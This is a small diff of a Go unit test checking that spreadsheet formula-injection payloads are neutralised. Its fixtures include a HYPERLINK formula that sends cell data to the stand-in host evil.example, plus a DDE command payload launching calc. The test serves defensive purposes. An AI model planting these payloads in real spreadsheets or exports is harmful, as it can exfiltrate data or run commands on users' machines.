@@ -11,7 +11,7 @@ import (
 func TestFormulaInjectionNeutralised(t *testing.T) {
 	cells := map[string]string{
 		`=HYPERLINK("https://evil.example/?"&A1,"x")`: `'=HYPERLINK("https://evil.example/?"&A1,"x")`,
-		"+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)",
+		"+cmd|' /C calc'!A0":                          "'+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)",
 		"\t=1": "'\t=1", "\r=1": "'\r=1", "-12.50": "-12.50", "-3": "-3", "plain": "plain", "": "", "a=b": "a=b",
 	}
 	for in, want := range cells {
